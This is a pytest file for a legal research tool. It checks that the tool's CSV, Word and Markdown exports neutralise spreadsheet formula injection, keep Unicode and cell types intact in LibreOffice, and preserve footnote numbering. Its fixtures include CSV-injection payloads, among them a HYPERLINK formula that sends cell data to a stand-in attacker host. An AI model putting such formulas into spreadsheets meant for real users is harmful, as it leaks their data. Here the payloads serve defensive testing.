"""Exports that open cleanly in a spreadsheet (issue 16, kind 3; BL-55, BL-56); footnotes numbered as the answer
and the CSV's role column (issue 31).

The CSV is read back three ways: by Python's csv module, as bytes, and -- when LibreOffice is installed
(Debian ``libreoffice-calc-nogui``) -- by LibreOffice Calc headless converting it to .xlsx, whose cells are read
with openpyxl. Calc is run with Excel's habits (no "quoted field as text", "detect special numbers" on), so a
cell that Excel would turn into a formula, a date or a negative number shows up here as one.
"""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import os
import shutil
import subprocess
import tempfile
from pathlib import Path

import pytest
from docx import Document

from legal_rag.answer.finish import in_reading_order
from legal_rag.text import renumber
from legal_rag.export import build_doc, docx_footnotes, docx_references, export_answer
from legal_rag.export.formats import UNVERIFIED_MARK, to_markdown
from legal_rag.export.sheet import BOM, CSV_COLUMNS, TYPED_COLUMNS, cell, neutralise, text_cell
from legal_rag.types import Answer, Chunk, Citation, Hit, StatuteRef

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
#: CSV import options of LibreOffice (field sep ",", text delimiter '"', UTF-8, from line 1, default column
#: formats, English (US), quoted field as text OFF, detect special numbers ON): Excel's way of guessing
EXCEL_LIKE = "CSV:44,34,76,1,,1033,false,true"
LO_DEFAULT = "CSV:44,34,76,1,,1033,false,false"
_PROFILE: Path | None = None

EVIL = {
    "formula": '=HYPERLINK("http://evil.example/?d="&A1,"Click for the order")',
    "plus": "+91 98100 00000 was the number from which the calls were made",
    "at": "@Ramesh replied on WhatsApp that the money was sent",
    "minus": "-1+1 is what the accused wrote in the ledger",
    "tab": "\t=1+1 hidden behind a tab",
    "cr": "\r=1+1 behind a carriage return",
    "number": "(1)",
    "unicode": "“The complainant paid ₹ 5,00,000” — धारा 420 भारतीय दंड संहिता",
}


def _chunk(cid, ref=None, case=None, title="", source="x.pdf", pages=(1, 1), meta=()):
    return Chunk(id=cid, kind="statute" if ref else "judgment", text="text of " + cid, title=title, source=source,
                 pages=pages, ref=ref, case=case, meta=meta)


def evil_answer(weights: bool = False) -> Answer:
    """One judgment citation per EVIL quote (pages 6-8, paras 12-14), and a statute citation of BNS 318(4)."""
    bns = _chunk("BNS-318-3-aaaa1111", StatuteRef("BNS", "318", ("4",)), title="Cheating",
                 source="BNS_2023_gazette_Act45.pdf", pages=(87, 87))
    chunks, cits = [bns], [Citation(1, bns.id, bns.ref, bns.source, bns.pages, "Cheating [1].", "supported",
                                    quote="(4) Whoever cheats", weight=0.5 if weights else None)]
    for i, (name, quote) in enumerate(EVIL.items(), start=2):
        c = _chunk(f"case{i}-0-{i:08d}", case=f"case{i}", title=f"A{i} v. State of U.P.", source=f"J{i}.pdf",
                   pages=(6, 8), meta=(("court", "High Court of Judicature at Allahabad"), ("date", "2020-11-27"),
                                       ("paras", "12-14" if name != "number" else "(1)")))
        chunks.append(c)
        cits.append(Citation(i, c.id, None, c.source, c.pages, f"Claim {name} [{i}].", "supported", quote=quote))
    text = " ".join(c.sentence for c in cits)
    return Answer("q", text, tuple(cits), (), (), tuple(Hit(c, 1.0, "rrf", k) for k, c in enumerate(chunks, 1)))


def _rows(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


# ---- CSV: formulas, encoding, numbers and dates ---------------------------------------------------------------

def test_owasp_formula_cells_are_neutralised():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert neutralise(start + "x") == "'" + start + "x"
    assert neutralise("x=1") == "x=1" and neutralise("") == ""
    rows = _rows(export_answer(evil_answer(), "csv"))
    quotes = {row["quote"] for row in rows}
    for name in ("formula", "plus", "at", "minus", "tab", "cr"):
        assert "'" + EVIL[name] in quotes, name
    for row in rows:  # no cell of any column begins like a formula
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values()), row


def test_csv_has_a_bom_and_keeps_unicode():
    data = export_answer(evil_answer(), "csv")
    assert data.startswith(b"\xef\xbb\xbf") and data.decode("utf-8").startswith(BOM + '"marker"')
    assert EVIL["unicode"] in {row["quote"] for row in _rows(data)}
    assert data.count(b"\r\n") == 1 + 1 + len(EVIL)  # header, statute, one row per quote: CRLF line ends


def test_pages_and_labels_never_look_like_numbers_or_dates():
    rows = _rows(export_answer(evil_answer(), "csv"))
    judgment = rows[1]
    assert (judgment["first_page"], judgment["last_page"], judgment["pages"]) == ("6", "8", "pp. 6-8")
    assert judgment["paras"] == "paras 12-14"
    assert rows[0]["pages"] == "p. 87" and rows[0]["section"] == "318(4)"
    number = next(r for r in rows if r["sentences"] == "Claim number [8].")
    assert number["quote"] == "'(1)" and number["paras"] == "para (1)"
    for value in ("(1)", "6-8", "4.10", "1/2", "12", "-5", "2020-11-27", "5%"):
        assert text_cell(value).startswith("'"), value
    for value in ("s. 318(4)", "2024 INSC 479", "pp. 6-8", "State of U.P."):
        assert text_cell(value) == value


def test_weight_column_only_with_attribution():
    assert "weight" not in _rows(export_answer(evil_answer(weights=False), "csv"))[0]
    rows = _rows(export_answer(evil_answer(weights=True), "csv"))
    assert tuple(rows[0]) == CSV_COLUMNS and rows[0]["weight"] == "0.5" and rows[1]["weight"] == ""


def test_ui_citation_panel_hides_the_weight_column_without_attribution():
    from legal_rag.ui import html as fmt

    off, on = fmt.citations_panel(evil_answer(False)), fmt.citations_panel(evil_answer(True))
    assert "<th>Weight</th>" not in off and "<th>Weight</th>" in on and "<td>0.50</td>" in on
    assert off.count("<tr") == on.count("<tr")


# ---- footnotes numbered as the answer, and the role column ----------------------------------------------------

def _gappy_answer() -> Answer:
    """Passages [1]..[4]; the answer cites [1], [3] (unverified) and [4]; passage [2] is never cited."""
    chunks = [_chunk(f"BNS-{n}-0-{n:08d}", StatuteRef("BNS", str(n)), title=f"Section {n}", source="BNS.pdf",
                     pages=(n, n)) for n in (101, 102, 103, 104)]
    cits = (Citation(1, chunks[0].id, chunks[0].ref, "BNS.pdf", (101, 101), "One [1].", "supported"),
            Citation(3, chunks[2].id, chunks[2].ref, "BNS.pdf", (103, 103), "Three [3].", "unsupported"),
            Citation(4, chunks[3].id, chunks[3].ref, "BNS.pdf", (104, 104), "Four [4], see [2020] 1 SCC 1.",
                     "supported"))
    return Answer("q", "One [1]. Three [3]. Four [4], see [2020] 1 SCC 1. Both [1, 4].", cits, (), (),
                  tuple(Hit(c, 1.0, "rrf", k) for k, c in enumerate(chunks, 1)))


def test_renumber_keeps_brackets_that_are_not_citations():
    assert renumber("A [1]. B [3]. C [2, 3]. [2020] 11 S.C.R.", {1: 1, 3: 2}, {2}, UNVERIFIED_MARK) == (
        "A [1]. B [2]. C [2][unverified]. [2020] 11 S.C.R.")
    assert renumber("D [1-3].", {1: 1, 3: 2}, {2}, UNVERIFIED_MARK) == "D [1, 2][unverified]."


def test_exports_keep_the_answers_numbers_and_a_left_out_one_says_so():
    a = in_reading_order(_gappy_answer())  # cited 1, 3, 4 -> 1, 2, 3; the uncited passage 2 -> 4
    assert a.text == "One [1]. Three [2]. Four [3], see [2020] 1 SCC 1. Both [1, 3]."
    assert [h.chunk.ref.section for h in a.passages] == ["101", "103", "104", "102"]
    doc = build_doc(a)  # verified only: [2] is left out, [3] keeps its number
    assert [(r.marker, r.section) for r in doc.records] == [(1, "101"), (3, "104")]
    assert doc.answer == f"One [1]. Three {UNVERIFIED_MARK}. Four [3], see [2020] 1 SCC 1. Both [1, 3]."
    md = to_markdown(doc)
    assert "Four [^3], see [2020] 1 SCC 1. Both [^1][^3]." in md and "[^2]" not in md
    assert [ln.split(":")[0] for ln in md.splitlines() if ln.startswith("[^")] == ["[^1]", "[^3]"]
    data = export_answer(a, "docx")
    assert sorted(docx_footnotes(data)) == [1, 3] and docx_footnotes(data)[3].startswith(
        "Bharatiya Nyaya Sanhita, 2023, s. 104")
    # Word shows each reference's own number (a custom mark), not its position among the references
    assert docx_references(data) == [(1, "1"), (3, "3"), (1, "1"), (3, "3")]
    body = "\n".join(p.text for p in Document(io.BytesIO(data)).paragraphs)
    assert f"Three {UNVERIFIED_MARK}." in body and "[2020] 1 SCC 1" in body
    assert "[1] Bharatiya Nyaya Sanhita, 2023, s. 101" in body and "[3] Bharatiya Nyaya Sanhita, 2023, s. 104" in body
    everything = build_doc(a, include_unverified=True)  # what the screen shows, numbered as it is
    assert [r.marker for r in everything.records] == [1, 2, 3]
    assert everything.answer == a.text
    assert docx_references(export_answer(a, "docx", include_unverified=True)) == [
        (1, "1"), (2, "2"), (3, "3"), (1, "1"), (3, "3")]


def test_csv_role_column_says_which_citations_are_related():
    a = _gappy_answer()
    related = dataclasses.replace(a, citations=tuple(dataclasses.replace(c, related=c.marker == 4)
                                                     for c in a.citations))
    rows = _rows(export_answer(related, "csv", include_unverified=True))
    assert [(r["marker"], r["role"]) for r in rows] == [("1", "answer"), ("3", "answer"),
                                                         ("4", "related (not the answer)")]
    assert list(rows[0]).index("role") == list(rows[0]).index("support") + 1
    # a marker is related only when every sentence citing it stands under "Related provisions"
    mixed = dataclasses.replace(a, citations=(*related.citations, dataclasses.replace(
        a.citations[2], sentence="Four again [4].", related=False)))
    assert [r["role"] for r in _rows(export_answer(mixed, "csv"))] == ["answer", "answer"]


# ---- LibreOffice Calc reads the CSV -------------------------------------------------------------------------

def calc_cells(csv_bytes: bytes, tmp: Path, options: str = EXCEL_LIKE) -> list[list]:
    """``csv_bytes`` opened by LibreOffice Calc headless (CSV import ``options``), saved as .xlsx and read with
    openpyxl: rows of ``(value, data_type)`` (``s`` text, ``n`` number, ``d`` date, ``f`` formula)."""
    import openpyxl

    global _PROFILE
    if _PROFILE is None:  # one LibreOffice profile per test session (creating one takes seconds)
        _PROFILE = Path(tempfile.mkdtemp(prefix="legal-rag-lo-"))
    tmp.mkdir(parents=True, exist_ok=True)
    src = tmp / "answer.csv"
    src.write_bytes(csv_bytes)
    env = dict(os.environ, HOME=str(_PROFILE))
    run = subprocess.run([SOFFICE, "--headless", "--norestore", f"-env:UserInstallation=file://{_PROFILE}/profile",
                          f"--infilter={options}", "--convert-to", "xlsx", "--outdir", str(tmp), str(src)],
                         capture_output=True, text=True, timeout=180, env=env)
    out = tmp / "answer.xlsx"
    assert out.is_file(), run.stdout + run.stderr
    return [[(c.value, c.data_type) for c in row] for row in openpyxl.load_workbook(out).active.iter_rows()]


def assert_calc_keeps_the_text(data: bytes, tmp: Path) -> list[list]:
    """Every cell LibreOffice reads is the CSV's own value: text columns as text equal to the intended string, the
    typed columns as that number or date, and no formula anywhere. Returns the cells read with Excel's habits."""
    intended = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    first = []
    for options in (EXCEL_LIKE, LO_DEFAULT):
        got = calc_cells(data, tmp / options.replace(",", "_").replace(":", ""), options)
        assert len(got) == len(intended)
        header = [v for v, _ in got[0]]
        assert header == intended[0]  # the BOM is read as the encoding mark, not as part of "marker"
        for want_row, got_row in zip(intended[1:], got[1:]):
            got_row = got_row + [(None, "n")] * (len(want_row) - len(got_row))
            for col, want, (value, kind) in zip(intended[0], want_row, got_row):
                assert kind != "f", (col, want)
                if want == "":
                    assert value in (None, ""), (col, value)
                elif col in TYPED_COLUMNS and kind == "n":
                    assert float(value) == float(want), (col, want, value)
                elif col in TYPED_COLUMNS and kind == "d":
                    assert value == dt.datetime.fromisoformat(want), (col, want, value)
                else:
                    # Calc keeps a line break inside a cell as LF
                    assert (kind, value) == ("s", want.replace("\r\n", "\n").replace("\r", "\n")), (col, want, value)
        first = first or got
    return first


@pytest.mark.skipif(SOFFICE is None and not os.environ.get("CI"),  # CI installs it (scripts/install_calc.sh)
                    reason="LibreOffice is not installed (Debian: libreoffice-calc-nogui)")
def test_libreoffice_opens_the_csv_as_intended(tmp_path):
    data = export_answer(evil_answer(weights=True), "csv")
    got = assert_calc_keeps_the_text(data, tmp_path)
    quotes = [v for v, _ in (row[CSV_COLUMNS.index("quote")] for row in got[1:])]
    assert "'" + EVIL["formula"] in quotes and EVIL["unicode"] in quotes and "'(1)" in quotes


@pytest.mark.skipif(SOFFICE is None and not os.environ.get("CI"),  # CI installs it (scripts/install_calc.sh)
                    reason="LibreOffice is not installed (Debian: libreoffice-calc-nogui)")
def test_libreoffice_shows_why_the_rules_exist(tmp_path):
    """The same values written naively (no prefix, no label): Calc makes a formula, a negative number and a date
    of them, so the test above would catch a regression. (The BOM is Excel's signal; Calc is told the charset.)"""
    naive = ('"quote","paras","date"\r\n"=1+1","(1)","2020-11-27"\r\n"“₹”","1/2","x"\r\n').encode()
    got = calc_cells(naive, tmp_path, EXCEL_LIKE)
    assert got[1][0][1] == "f" and got[1][1] == (-1, "n") and got[2][1][1] == "d"


# ---- the real pipeline ---------------------------------------------------------------------------------------

@pytest.mark.slow
@pytest.mark.parametrize("question", [
    "Abrasion on the dorsum of right hand and bruises on the right scapular region of the deceased",  # BL-56
    "What is the BNS equivalent of IPC 420?",
])
def test_real_answer_exports_open_cleanly(real_pipeline, tmp_path, question):
    answer = real_pipeline.ask(question)
    assert answer.citations, answer.text
    doc = build_doc(answer)
    markers = [r.marker for r in doc.records]  # the screen's numbers of the verified citations, in order
    assert markers == [m for m in range(1, max(markers) + 1) if m in markers]
    md = to_markdown(doc)
    assert [ln.split(":")[0] for ln in md.splitlines() if ln.startswith("[^")] == [f"[^{n}]" for n in markers]
    assert sorted(docx_footnotes(export_answer(answer, "docx"))) == markers
    data = export_answer(answer, "csv")
    assert data.startswith(b"\xef\xbb\xbf")
    rows = _rows(data)
    assert len(rows) == len(doc.records)
    assert all(c.weight is None for c in answer.citations) and "weight" not in rows[0]  # attribution is off
    for row, r in zip(rows, doc.records):
        assert row["pages"] == r.page_label
        # a plain-text judgment has no pages: empty page cells, cited by paragraph only (issue 18)
        assert ((int(row["first_page"]), int(row["last_page"])) == r.pages if r.paged
                else (row["first_page"], row["last_page"], r.page_label) == ("", "", ""))
        assert all(v == cell(r, k) for k, v in row.items())
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())
    if SOFFICE is not None:
        assert len(assert_calc_keeps_the_text(data, tmp_path)) == len(rows) + 1
